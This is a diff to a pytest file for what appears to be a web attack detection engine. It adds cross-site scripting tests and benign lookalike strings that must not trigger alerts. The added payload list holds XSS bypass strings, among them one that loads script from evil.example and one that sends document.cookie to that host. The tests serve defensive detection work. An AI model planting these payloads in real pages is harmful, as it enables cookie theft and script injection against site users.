@@ -129,3 +129,33 @@ def test_a_tomcat_path_parameter_is_traversal_not_a_command() -> None:
     rules = _rules(Event(id="r", timestamp=0.0, dataset="portal.http", payload=req))
     assert "web.traversal.path" in rules
     assert not any(r.startswith("web.cmdi.") for r in rules), rules
+
+
+# Cross-site scripting
+
+XSS = [
+    ("javascript://\nalert(1)", "next"),
+    ("javascript://%0aalert(1)", "next"),
+    ("javascript:top['al'+'ert'](1)", "next"),
+    ("javascript:(alert)(1)", "next"),
+    ("<img alt=\">\" src=x onerror=import('//evil.example/x.js')>", "q"),
+    ("'-top['al'+'ert'](1)-'", "q"),
+    ("\";window.location='//evil.example/?'+document['cookie'];//", "q"),
+]
+XSS_BENIGN = [
+    "See [the map](https://portal.aldmere.city/map) for the stop",
+    "Müller's note: 'a > b' onboarding = fine",
+    "window location unclear; top [1] (see annex)",
+    "2 times; then 3 - javascript: is off (fine)",
+    "Fenster: window.location = unklar, Seite 3",
+]
+
+
+@pytest.mark.parametrize(("value", "name"), XSS)
+def test_xss_bypasses_are_caught(value: str, name: str) -> None:
+    assert any(r.startswith("web.xss.") for r in _rules(search(value, name))), value
+
+
+@pytest.mark.parametrize("value", XSS_BENIGN)
+def test_complaints_that_look_like_script_are_not_flagged(value: str) -> None:
+    _quiet(value)
